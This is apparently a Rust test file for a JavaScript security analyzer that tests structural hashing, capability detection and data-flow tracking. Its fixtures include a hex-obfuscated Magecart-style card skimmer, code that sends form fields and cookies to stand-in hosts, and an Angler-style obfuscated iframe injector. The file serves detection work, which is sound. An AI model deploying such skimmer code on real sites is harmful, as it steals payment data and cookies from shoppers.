//! SPEC §4: "`structural_hash` is equal for two scripts that differ only in whitespace, comments,
//! local identifier names (minifier renaming), string-literal contents and numeric-literal
//! values; it differs when statements, expressions, operators or accessed property/global names
//! change."

use rampart_js::{Options, Verdict, analyze, diff};

fn hash(src: &str) -> String {
    let a = analyze(src, &Options::default());
    assert!(a.parse_errors.is_empty(), "{src}: {:?}", a.parse_errors);
    a.structural_hash
}

const BASE: &str = r#"
// analytics loader v1
(function (win, doc) {
  var queue = [], started = 1700000000;
  function track(name, value) { queue.push({ n: name, v: value, t: Date.now() - started }); }
  win.tracker = { track: track, id: "3f9c2a1e-77b1-4c1e-9d55-0a4c0e3b8f21" };
  doc.addEventListener("click", function (e) { track("click", e.target.id); });
})(window, document);
"#;

#[test]
fn whitespace_comments_locals_and_literal_values_do_not_count() {
    let variants = [
        // minified and renamed
        r#"(function(a,b){var c=[],d=1800000000;function e(f,g){c.push({n:f,v:g,t:Date.now()-d})}a.tracker={track:e,id:"00000000-0000-0000-0000-000000000000"};b.addEventListener("keydown",function(h){e("x",h.target.id)})})(window,document);"#,
        // new build id and timestamp, comments moved
        "/* build 4242 */\n(function (win, doc) {\n var queue = [], started = 1;\n function track(name, value) { queue.push({ n: name, v: value, t: Date.now() - started }); } // q\n win.tracker = { track: track, id: 'abc' };\n doc.addEventListener('click', function (e) { track('click', e.target.id); });\n})(window, document);",
        // quoted keys and redundant parentheses
        r#"(function (w, d) { var q = [], s = 2; function t(n, v) { (q).push({ "n": n, "v": v, "t": (Date.now() - s) }); } w["tracker"] = { track: t, id: "x" }; d.addEventListener("click", function (e) { t("click", e.target.id); }); })(window, document);"#,
    ];
    let base = hash(BASE);
    for v in variants {
        assert_eq!(hash(v), base, "{v}");
    }
}

#[test]
fn statements_operators_properties_and_globals_do_count() {
    let base = hash(BASE);
    let changes = [
        BASE.replace("Date.now() - started", "Date.now() + started"), // operator
        BASE.replace("e.target.id", "e.target.value"),                // property name
        BASE.replace("(window, document)", "(window, parent)"),       // global name
        BASE.replace("win.tracker =", "win.tracker = win.tracker ||"), // expression
        BASE.replace(
            "})(window",
            "  navigator.sendBeacon(\"/x\", queue);\n})(window",
        ), // statement
    ];
    for c in changes {
        assert_ne!(hash(&c), base, "{c}");
    }
}

#[test]
fn a_local_shadowing_a_global_is_not_the_global() {
    let global = analyze("fetch('/x')", &Options::default());
    let local = analyze("function f(fetch) { fetch('/x') }", &Options::default());
    assert!(
        global
            .capabilities
            .iter()
            .any(|c| c.name() == "network:fetch")
    );
    assert!(
        local
            .capabilities
            .iter()
            .all(|c| c.name() != "network:fetch")
    );
}

#[test]
fn diff_verdicts_follow_the_spec() {
    let opts = Options::default();
    let a = analyze(BASE, &opts);
    let same = analyze(BASE, &opts);
    assert_eq!(diff(&a, BASE, &same, BASE).verdict, Verdict::Identical);
    let renamed = BASE.replace("queue", "q1");
    let b = analyze(&renamed, &opts);
    let d = diff(&a, BASE, &b, &renamed);
    assert_eq!((d.verdict, d.similarity), (Verdict::Trivial, 1.0));
    let unrelated = "for (var i = 0; i < 10; i++) { console.log(i * i); }";
    let c = analyze(unrelated, &opts);
    let d = diff(&a, BASE, &c, unrelated);
    assert_eq!(d.verdict, Verdict::Changed);
    assert!(d.similarity < 0.1, "{}", d.similarity);
}

/// `Function("return this")()` reaches the global object (lodash, core-js); it is not code
/// built at run time. Any other body is.
#[test]
fn the_global_this_idiom_is_not_dynamic_code() {
    let dynamic = |src: &str| {
        analyze(src, &Options::default())
            .capabilities
            .iter()
            .any(|c| c.name() == "dynamic-code")
    };
    assert!(!dynamic("var root = Function('return this')();"));
    assert!(!dynamic("var root = new Function(\"return this;\")();"));
    assert!(dynamic("var f = new Function('return this.' + name)();"));
    assert!(dynamic("var f = Function('a', 'return a')(1);"));
    assert!(dynamic("Function(payload)();"));
}

#[test]
fn capabilities_are_found_through_obfuscated_string_arrays() {
    // The shape of a packed Magecart skimmer: property names hidden in a hex-escaped array.
    let src = r##"var _0x1a=["\x76\x61\x6c\x75\x65","\x71\x75\x65\x72\x79\x53\x65\x6c\x65\x63\x74\x6f\x72","\x73\x65\x6e\x64\x42\x65\x61\x63\x6f\x6e","\x73\x75\x62\x6d\x69\x74","\x68\x74\x74\x70\x73\x3a\x2f\x2f\x63\x64\x6e\x2d\x6a\x71\x75\x65\x72\x79\x2e\x73\x68\x6f\x70\x2f\x6a"];
document.addEventListener(_0x1a[3], function () {
  var n = document[_0x1a[1]]("#cc")[_0x1a[0]];
  navigator[_0x1a[2]](_0x1a[4], n);
});"##;
    let a = analyze(src, &Options::default());
    let caps: Vec<&str> = a.capabilities.iter().map(|c| c.name()).collect();
    for want in [
        "network:beacon",
        "read:form-fields",
        "listen:submit-or-click",
    ] {
        assert!(caps.contains(&want), "{want} missing from {caps:?}");
    }
    assert!(a.domains.contains("cdn-jquery.shop"), "{:?}", a.domains);
}

#[test]
fn sensitive_reads_reaching_network_sinks_are_flows() {
    let flows = |src: &str| {
        analyze(src, &Options::default())
            .flows
            .into_iter()
            .collect::<Vec<_>>()
    };
    // Through a variable and JSON.stringify into XMLHttpRequest.send.
    let xhr = r##"var f = document.querySelector("#cc").value;
        var body = JSON.stringify({ card: f });
        var x = new XMLHttpRequest(); x.open("POST", "https://collect.example/c"); x.send(body);"##;
    assert_eq!(flows(xhr), ["read:form-fields -> network:xhr"]);
    // Through an object filled in a callback, into a beacon.
    let beacon = r#"var n = {}; $("form").serializeArray().map(function (a) { n[a.name] = a.value; });
        navigator.sendBeacon("https://c.example/b", JSON.stringify(n));"#;
    assert_eq!(flows(beacon), ["read:form-fields -> network:beacon"]);
    // Cookies into an image URL.
    let pixel =
        r#"var c = document.cookie; var i = new Image(); i.src = "https://t.example/p?c=" + c;"#;
    assert_eq!(flows(pixel), ["read:cookie -> network:image"]);
    // Reads that go nowhere near a sink, and sinks that send nothing sensitive: no flow.
    let quiet = r#"var v = input.value; console.log(v.length); fetch("/api/ping", { method: "POST", body: "{}" });"#;
    assert!(flows(quiet).is_empty(), "{:?}", flows(quiet));
    // The same reads and sinks hidden behind an obfuscator's string array.
    let packed = r##"var _0x4f2a = ["value", "querySelector", "sendBeacon", "#cc", "src", "cookie"];
        var v = document[_0x4f2a[1]](_0x4f2a[3])[_0x4f2a[0]];
        navigator[_0x4f2a[2]]("https://x.example.net/c", v);
        var i = new Image(); i[_0x4f2a[4]] = "https://t.example.net/p?c=" + document[_0x4f2a[5]];"##;
    assert_eq!(
        flows(packed),
        [
            "read:cookie -> network:image",
            "read:form-fields -> network:beacon"
        ]
    );
}

/// Exploit-kit landing pages build every name and their payload one escaped piece at a time
/// in variables (`v = "\x63"; v = v + "\x6f"; …`) and reach `Function` through
/// `[][c][c]` or a variable holding a constructor; the resolver folds the straight-line
/// values, so the capabilities, and with features the decoded payload, are seen.
#[test]
fn strings_built_in_variables_are_resolved() {
    let caps = |src: &str| -> Vec<&'static str> {
        analyze(src, &Options::default())
            .capabilities
            .iter()
            .map(|c| c.name())
            .collect()
    };
    // The shape of an Angler landing page (pieces assigned out of order, then joined).
    let angler = r#"c = "\x63\x6f\x6e"; p1 = "\x64\x6f\x63"; c = c + "\x73\x74\x72";
        p2 = "ument.wri"; c = c + "uctor"; p1 = p1 + p2; p3 = "te('<ifr' + 'ame src=//evil.example.net/l>')";
        [][c][c](p1 + p3)();"#;
    assert_eq!(caps(angler), ["dynamic-code"]);
    let with_features = Options {
        features: true,
        ..Options::default()
    };
    let a = analyze(angler, &with_features);
    assert_eq!(
        a.payloads,
        ["document.write('<ifr' + 'ame src=//evil.example.net/l>')"]
    );
    // Through variables holding the constructors, `+=`, and a declared `var`.
    let hidden = r#"var k = "cons"; k += "tructor"; var arr = [][k]; var run = arr[k];
        var w = "wr" + "ite"; run("x()")(); document[w]("<b>");"#;
    assert_eq!(caps(hidden), ["dynamic-code", "dom:write"]);
    // The same with undeclared (implicitly global) variables, as landing pages write them.
    let sloppy = r#"k = "\x63on"; k += "structor"; arr = [][k]; run = arr[k]; run(p)();"#;
    assert_eq!(caps(sloppy), ["dynamic-code"]);
    // `(function(){}).constructor` is `Function` too; a plain `.constructor` call is not.
    assert_eq!(
        caps("(function(){}).constructor('x()')();"),
        ["dynamic-code"]
    );
    assert!(caps("var C = obj.constructor; new C(1); obj.constructor(2);").is_empty());
    // A value assigned in a loop is not known, and a later plain assignment replaces it.
    assert!(caps(r#"var m = "wri"; for (;;) { m += "te"; } document[m]("x");"#).is_empty());
    assert!(caps(r#"var m = "write"; m = f(); document[m]("x");"#).is_empty());
    // A global reached through a folded name.
    assert_eq!(
        caps(r#"var e = "ev" + "al"; window[e]("1");"#),
        ["dynamic-code"]
    );
}

/// Folding is bounded: a script that doubles a string sixty times, or appends to one a hundred
/// thousand times, is analyzed in bounded memory and the fold simply stops knowing the value.
#[test]
fn folded_strings_stay_within_a_budget() {
    let doubling = format!(
        "var s = \"ab\"; {} document[s]('x');",
        "s = s + s; ".repeat(60)
    );
    let a = analyze(&doubling, &Options::default());
    assert!(a.parse_errors.is_empty());
    assert!(a.capabilities.is_empty());
    let appending = format!(
        "var s = \"\"; {} window[s]('x');",
        "s += \"ev\"; ".repeat(100_000)
    );
    let a = analyze(&appending, &Options::default());
    assert!(a.parse_errors.is_empty());
    // A long chain of numbers joined to a string, read by every pass: built in one scratch
    // string each time, kept only if it fits.
    let numbers = format!("document[\"wr\" + {}1](1);", "1 + ".repeat(200_000));
    let a = analyze(&numbers, &Options::default());
    assert!(a.parse_errors.is_empty());
    assert!(a.capabilities.is_empty());
}

/// The string arrays are learned during the same walk that reads the code, so code that runs
/// before the array is declared (a hoisted `var`, a function defined above it) or an array
/// declared twice must still read the final array: the walk is repeated when it matters.
#[test]
fn a_string_array_declared_after_its_use_still_resolves() {
    let later = r##"function steal() {
          var v = document[_0x9a[1]](_0x9a[3])[_0x9a[0]];
          navigator[_0x9a[2]]("https://x.example.net/c", v);
        }
        document.addEventListener("submit", steal);
        var _0x9a = ["value", "querySelector", "sendBeacon", "#cc"];"##;
    let a = analyze(later, &Options::default());
    assert_eq!(
        a.flows.iter().collect::<Vec<_>>(),
        ["read:form-fields -> network:beacon"]
    );
    let caps: Vec<&str> = a.capabilities.iter().map(|c| c.name()).collect();
    assert!(caps.contains(&"network:beacon"), "{caps:?}");
    assert!(caps.contains(&"read:form-fields"), "{caps:?}");
    // Declared twice: the second array is the one every use reads (as `var` hoisting has it).
    let twice = r##"var _0x1 = ["log", "warn"]; function go(u) { navigator[_0x1[0]](u, document[_0x1[1]]); }
        var _0x1 = ["sendBeacon", "cookie"];"##;
    let caps: Vec<&str> = analyze(twice, &Options::default())
        .capabilities
        .iter()
        .map(|c| c.name())
        .collect();
    assert_eq!(caps, ["network:beacon", "read:cookie"]);
}

/// The structural hash is stored with every script version and compared across releases of
/// Rampart: a change to how it is computed would alert on every script of every site. This pins
/// its value for one script (computed before the stream/hash rewrite of 2026-12-04 and unchanged
/// by it); if it must change, that is a migration, not a refactor.
#[test]
fn structural_hash_is_a_stable_format() {
    let src = "var total = 0;\nfunction add(a, b) { return a + b; }\ndocument.getElementById(\"x\").addEventListener(\"click\", () => { total = add(total, 1); fetch(\"https://api.example.com/t?n=\" + total); });\n";
    assert_eq!(hash(src), "66419e6d8bcc8bf33c482b538f33c089");
}
